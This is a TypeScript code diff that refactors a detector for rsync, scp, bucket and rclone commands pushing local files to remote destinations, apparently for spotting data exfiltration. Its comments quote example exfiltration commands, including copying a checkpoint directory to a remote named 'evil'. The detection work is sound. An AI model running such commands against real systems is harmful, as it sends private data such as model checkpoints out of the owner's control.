@@ -128,6 +128,12 @@ export function copyOperands(words: readonly string[], t: number, rsync: boolean
   return out;
 }
 
+/** Whether rsync / scp `words` (the tool word first) copy a local source to a remote destination (their last operand). */
+function pushesToRemote(words: readonly string[], tool: string): boolean {
+  const ops = copyOperands(words, 0, tool === 'rsync');
+  return ops.length >= 2 && remoteOperand(ops[ops.length - 1]!) && ops.slice(0, -1).some((o) => !remoteOperand(o));
+}
+
 /**
  * The copy tools (rsync, scp) of `commands` whose destination (the last operand) is remote and
  * that copy at least one local source there: `rsync -az /mnt/ckpt/ u@h:/x/` (a push, the
@@ -135,8 +141,8 @@ export function copyOperands(words: readonly string[], t: number, rsync: boolean
  * nothing. The object-store CLIs (aws, gsutil, gcloud, s3cmd) when they copy to a bucket
  * (exec-bucket-copies.ts): `aws s3 cp f s3://b/` gives `aws`, a download nothing. rclone when it
  * sends to a remote (exec-rclone-copies.ts): `rclone copy /mnt/ckpt evil:b` gives `rclone`, a pull
- * (`rclone copy s3:datasets /data`) nothing. Redirections
- * of a script's command are not operands. In order, each once.
+ * (`rclone copy s3:datasets /data`) nothing. Redirections of a script's command are not operands.
+ * In order, each once.
  */
 export function remoteCopyTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
   const out: string[] = [];
@@ -148,12 +154,7 @@ export function remoteCopyTools(commands: readonly (readonly string[])[], script
     const words = scripted[c] === true ? [tool, ...(operandsOf(all, t, false) ?? [])] : all.slice(t);
     // A reading of interpreter code ends the command it makes with a note (`#paramiko.put`), no operand.
     if (scripted[c] === true && words.length > 1 && words[words.length - 1]!.startsWith('#')) words.pop();
-    if (bucket || tool === 'rclone') {
-      if (bucket ? copiesToBucket(words, tool) : rcloneSends(words)) out.push(tool);
-      continue;
-    }
-    const ops = copyOperands(words, 0, tool === 'rsync');
-    if (ops.length >= 2 && remoteOperand(ops[ops.length - 1]!) && ops.slice(0, -1).some((o) => !remoteOperand(o))) out.push(tool);
+    if (bucket ? copiesToBucket(words, tool) : tool === 'rclone' ? rcloneSends(words) : pushesToRemote(words, tool)) out.push(tool);
   }
   return out;
 }
